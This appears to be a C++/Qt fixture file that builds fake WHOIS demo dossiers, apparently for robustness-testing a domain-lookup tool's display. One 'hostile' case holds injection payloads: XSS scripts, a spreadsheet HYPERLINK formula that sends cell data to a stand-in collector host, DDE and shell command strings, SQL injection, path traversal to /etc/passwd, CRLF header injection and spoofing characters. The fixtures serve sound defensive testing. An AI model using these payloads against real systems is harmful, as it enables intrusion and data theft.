#include "network/demo/demorecord.h"

namespace wb::demoawkward {

using namespace Qt::StringLiterals;

namespace {

DemoRegistrar plainSail()
{
    return {.name = u"Plain Sail Registry Services"_s,
            .abusePhone = u"+1.5555550190"_s,
            .abuseEmail = u"abuse@plainsail.example"_s,
            .ianaId = u"99200"_s,
            .url = u"https://plainsail.example"_s,
            .whoisServer = u"whois.plainsail.example"_s};
}

DemoHolding plainHolding(const QString &domain, QDate today)
{
    const DemoContact contact = {.name = u"Pat Specimen"_s,
                                 .org = u"Specimen Works"_s,
                                 .street = {u"5 Placeholder Lane"_s},
                                 .city = u"Exampletown"_s,
                                 .postal = u"00000"_s,
                                 .country = u"IE"_s,
                                 .phone = u"+353.15550105"_s,
                                 .email = u"pat@"_s + domain};
    return {.domain = domain,
            .registrar = plainSail(),
            .created = today.addDays(-3000),
            .updated = today.addDays(-200),
            .expires = today.addDays(300),
            .statuses = {u"clientTransferProhibited"_s},
            .nameServers = {u"ns1.plainsail.example"_s, u"ns2.plainsail.example"_s},
            .registrant = contact,
            .admin = contact,
            .tech = contact};
}

DemoContact redacted()
{
    const QString prose = u"REDACTED FOR PRIVACY"_s;
    return {.name = prose,
            .org = u"Privacy service provided by Quiet Hedge ehf"_s,
            .street = {prose, prose},
            .city = prose,
            .state = prose,
            .postal = prose,
            .country = u"IS"_s,
            .phone = prose,
            .fax = prose,
            .email = u"Please query the RDDS service of the registrar of record for how to contact the registrant"_s};
}

DemoHolding quietGardenHolding(QDate today)
{
    DemoHolding holding = plainHolding(u"quiet-garden.example"_s, today);
    holding.isPrivate = true;
    holding.registrant = redacted();
    holding.admin = redacted();
    holding.admin.email = u"REDACTED FOR PRIVACY (DT)"_s;
    holding.tech = redacted();
    holding.tech.email = u"Select Request Email Form at https://plainsail.example/whois/quiet-garden.example"_s;
    return holding;
}

DemoHolding rechnungsbueroHolding(QDate today)
{
    DemoHolding holding = plainHolding(u"xn--rechnungsbro-mlb.example"_s, today);
    holding.registrant = {.name = u"Jürgen Größenwahn"_s,
                          .org = u"Rechnungsbüro Mustermann & Söhne OHG"_s,
                          .street = {u"Musterstraße 12½"_s, u"3. Stock – links"_s},
                          .city = u"Überlingen-Beispiel"_s,
                          .state = u"Thüringen"_s,
                          .postal = u"00000"_s,
                          .country = u"DE"_s,
                          .phone = u"+49.3055550133"_s,
                          .email = u"büro@xn--rechnungsbro-mlb.example"_s};
    holding.admin.name = u"山田 見本"_s;
    holding.admin.org = u"株式会社見本"_s;
    holding.admin.city = u"東京"_s;
    holding.admin.country = u"JP"_s;
    holding.tech.name = u"Παράδειγμα Δοκιμής"_s;
    holding.tech.org = u"دامنه نمونه"_s;
    holding.tech.city = u"Пример-град 🏝"_s;
    holding.nameServers = {u"ns1.xn--rechnungsbro-mlb.example"_s, u"ns2.plainsail.example"_s};
    return holding;
}

DemoHolding hostileHolding(QDate today)
{
    DemoHolding holding = plainHolding(u"hostile-text.example"_s, today);
    const QString loneSurrogate(QChar(0xd800));
    const QString nul(QChar(u'\0'));
    holding.registrant = {
        .name = u"<img src=x onerror=alert(1)><b>Bold</b> &lt;i&gt;twice&lt;/i&gt;"_s,
        .org = u"=HYPERLINK(\"http://collector.test/?\"&A1,\"open\")"_s,
        .street = {u"\u001b[2J\u001b[31mred\u001b]0;new title\u0007 end"_s, u"+1+1"_s, u"\t=1+1"_s,
                   u"\r\nSet-Cookie: stolen=1"_s},
        .city = u"\u202egnp.eciovni\u202c.exe"_s,
        .state = u"lone "_s + loneSurrogate + u" surrogate"_s,
        .postal = u"NUL"_s + nul + u"inside"_s,
        .country = u"\u2066\u200b\ufeffXX"_s,
        .phone = u"-2+3+cmd|' /C calc'!A0"_s,
        .fax = u"@SUM(1+1)"_s,
        .email = u"\"<script>alert(2)</script>\"@hostile-text.example"_s,
    };
    holding.admin.name = u"a\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030a\u030b\u030c\u0310\u0311\u0320\u0323"_s;
    holding.admin.org = u"x"_s.repeated(20'000);
    holding.admin.email = u"pat@hostile-text.example, eve@hostile-text.example; <mallory@hostile-text.example>"_s;
    holding.tech.name = u"%n%s%x &accelerator {0} %1 $(id) `id` ; DROP TABLE cases;--"_s;
    holding.tech.org = u"file:///etc/passwd"_s;
    holding.tech.street = {u"../../../../etc/passwd"_s, u"\\\\collector.test\\share"_s};
    holding.tech.email = u"mailto:eve@hostile-text.example?subject=\u202ehello"_s;
    holding.billing.name = u"\u009b31m C1 control, \u2028 line and \u2029 paragraph separators \ufffe"_s;
    holding.registrar.name = u"<a href='http://collector.test/'>Click</a> Registrar \"quoted\", \\ Inc."_s;
    holding.registrar.url = u"javascript:alert(3)"_s;
    holding.registrar.abuseEmail = u"abuse@hostile-text.example\r\nBcc: all@collector.test"_s;
    holding.registrar.ianaId = u"123456789012345678901234567890"_s;
    holding.nameServers = {u"ns1.<b>plainsail</b>.example"_s, u"ns2..plainsail.example"_s, u"-.example"_s,
                           u"a"_s.repeated(300) + u".example"_s};
    holding.statuses = {u"ok"_s, u"<blink>clientHold</blink>"_s};
    return holding;
}

DemoHolding quotaReachedHolding(QDate today, QDate date)
{
    DemoHolding holding = plainHolding(u"quota-reached.example"_s, today);
    if (date.daysTo(today) > 150) {
        holding.registrant.org = u"Specimen Works (old name) Ltd"_s;
        holding.nameServers = {u"ns.elder-host.test"_s};
    }
    return holding;
}

DemoRecord hostileRecord(const DemoHolding &holding, QDate date)
{
    DemoRecord record = demoRecord(holding, date);
    record.text += u"\u001b[8mhidden\u001b[0m\u0000 end\n"_s + u"long "_s.repeated(40'000) + u'\n';
    return record;
}

} // namespace

DemoDossier quietGarden(QDate today)
{
    const auto scan = [](QDate day, QDate date, quint64) { return demoRecord(quietGardenHolding(day), date); };
    return demoDossierOf(quietGardenHolding(today), today, {.count = 31, .longestGap = 60, .at = scan},
                         StatusStyle::Plain);
}

DemoDossier rechnungsbuero(QDate today)
{
    const auto scan = [](QDate day, QDate date, quint64) { return demoRecord(rechnungsbueroHolding(day), date); };
    return demoDossierOf(rechnungsbueroHolding(today), today, {.count = 17, .longestGap = 90, .at = scan});
}

DemoDossier hostileText(QDate today)
{
    const DemoHolding holding = hostileHolding(today);
    const auto scan = [](QDate day, QDate date, quint64) { return hostileRecord(hostileHolding(day), date); };
    DemoDossier dossier =
        demoDossierOf(holding, today, {.count = 3, .longestGap = 200, .at = scan}, StatusStyle::Plain);
    dossier.current = hostileRecord(holding, dossier.current.date);
    dossier.parsed->created = u"before <i>Monday</i>"_s;
    dossier.parsed->otherProperties += {
        {u"<script>alert(4)</script>"_s, u"a name can be hostile too"_s},
        {u"__proto__"_s, u"{\"polluted\":true}"_s},
        {u""_s, u"a property without a name"_s},
        {u"remarks"_s, u"the first of two"_s},
        {u"remarks"_s, u"the second of two"_s},
    };
    return dossier;
}

DemoDossier sparseRecord(QDate today)
{
    const auto scan = [](QDate day, QDate date, quint64) {
        return DemoRecord{.date = date,
                          .registrar = QString(),
                          .text = u"Domain Name: sparse-record.example\nAsked: "_s + day.toString(Qt::ISODate) + u'\n'};
    };
    // Absent, null, "" and [], each at least once.
    DemoRecord record = scan(today, today.addDays(-DemoLastScan), 0);
    record.created = today.addDays(-901).toString(Qt::ISODate);
    record.expires = u""_s;
    record.nameServers = {u"NS1.PLAINSAIL.EXAMPLE"_s};
    DemoParsed parsed = {.created = *record.created, .updated = QString(), .expires = u""_s};
    parsed.registrar.ianaId = QString();
    parsed.registrant.name = QString();
    parsed.registrant.country = u"ie"_s;
    return {.current = record, .parsed = parsed, .history = {.count = 2, .longestGap = 400, .at = scan}};
}

DemoDossier quotaReached(QDate today)
{
    const auto scan = [](QDate day, QDate date, quint64 noise) {
        DemoHolding holding = quotaReachedHolding(day, date);
        holding.updated = date.addDays(-qint64(noise % 29));
        DemoRecord record = demoRecord(holding, date);
        if (noise % 19 == 0) {
            record.registrant.reset();
            record.text = demoRefusalText(*record.server);
        }
        return record;
    };
    DemoDossier dossier =
        demoDossierOf(quotaReachedHolding(today, today), today, {.count = 580, .longestGap = 9, .at = scan});
    dossier.recordsLeft = 76;
    return dossier;
}

DemoDossier incompleteRecord(QDate today)
{
    const auto scan = [](QDate day, QDate date, quint64) {
        DemoRecord record = demoRecord(plainHolding(u"incomplete-record.example"_s, day), date);
        record.text = u"*** This registry writes its records in a way of its own ***\n\n"
                      "[Domain]    incomplete-record.example\n[Holder]    Specimen Works\n"
                      "[State]     connected until "_s
            + *record.expires
            + u"\n[Mail]      pat@incomplete-record.example\n"
              "[Servers]   ns1.plainsail.example / ns2.plainsail.example\n"_s;
        return record;
    };
    return {.current = scan(today, today.addDays(-DemoLastScan), 0),
            .history = {.count = 9, .longestGap = 120, .at = scan}};
}

} // namespace wb::demoawkward
